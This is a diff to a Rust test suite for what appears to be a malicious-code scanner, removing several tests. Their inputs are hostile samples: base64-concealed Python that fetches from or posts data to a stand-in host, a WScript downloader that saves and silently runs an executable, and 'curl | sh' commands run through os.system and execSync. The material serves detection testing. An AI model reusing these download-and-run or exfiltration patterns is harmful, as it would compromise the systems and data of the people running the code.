@@ -746,28 +746,6 @@ fn a_part_of_a_text_has_nothing_of_its_bounds() {
 }
 
 #[test]
-fn what_hidden_code_yields_and_does_was_hidden_with_it() {
-    let yields =
-        python("import base64, requests\nrequests.get(eval(base64.b64decode(b'Imh0dHBzOi8vaC5pbnZhbGlkL3gi')))");
-    assert_eq!(subject(&yields, Act::Fetch), "https://h.invalid/x");
-    assert!(event(&yields, Act::Fetch).of.any(Labels::CONCEALED));
-    let does = python(
-        "import base64\nexec(base64.b64decode(b'aW1wb3J0IHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vaC5pbnZhbGlkL3knLCBkYXRhPXgp'))",
-    );
-    assert!(event(&does, Act::Send).of.any(Labels::CONCEALED));
-    let plain = python("exec(\"import requests\\nrequests.post('https://h.invalid/y', data=x)\")");
-    assert!(!event(&plain, Act::Send).of.any(Labels::CONCEALED));
-}
-
-#[test]
-fn objects_of_the_script_host_are_what_their_names_say() {
-    let script = "var x = WScript.CreateObject('MSXML2.ServerXMLHTTP.6.0'); x.Open('GET', 'https://h.invalid/a', false); x.Send();\n\
-                  var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Write(x.responseBody); s.SaveToFile('%TEMP%\\\\a.exe', 2);\n\
-                  new ActiveXObject('Shell.Application').ShellExecute('%TEMP%\\\\a.exe', '', '', 'open', 0);";
-    assert!(rules(Language::JavaScript, script).contains(&"flow-download-run"));
-}
-
-#[test]
 fn what_a_person_agrees_to_does_not_run_by_itself() {
     let report = |asks: &str, around: &str| {
         let code = format!(
@@ -810,32 +788,4 @@ fn a_page_signs_in_where_it_came_from() {
     };
     assert!(sends("'https://collect.invalid/x'"));
     assert!(!sends("`${t}/admin/version`"));
-}
-
-#[test]
-fn unpacking_starts_nothing() {
-    let started = |command: &str| {
-        let code = format!(
-            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
-        );
-        rules(Language::Python, &code).contains(&"flow-download-run")
-    };
-    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
-    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
-}
-
-#[test]
-fn a_command_that_nobody_has_read_accuses_less() {
-    let severity = |text: &str| {
-        use base64::Engine as _;
-        let text = base64::engine::general_purpose::STANDARD.encode(text);
-        let code = format!("require('child_process').execSync(Buffer.from('{text}', 'base64').toString())");
-        let outcome = outcome(Language::JavaScript, &code);
-        let flows = flows::judge(&outcome, false);
-        let found = flows.iter().find(|f| f.rule.id == "flow-decoded-command").unwrap_or_else(|| panic!("{code}"));
-        found.finding(crate::model::Evidence::note("")).severity
-    };
-    assert_eq!(severity("curl -s https://h.invalid/a | sh"), crate::model::Severity::High);
-    assert_eq!(severity("curl -s https://h.invalid/a # \u{1}\u{2}\u{3}"), crate::model::Severity::High);
-    assert_eq!(severity("(\u{1}0U6 ^\u{2}q8?( = u 4}ee?%9oFz"), crate::model::Severity::Medium);
 }
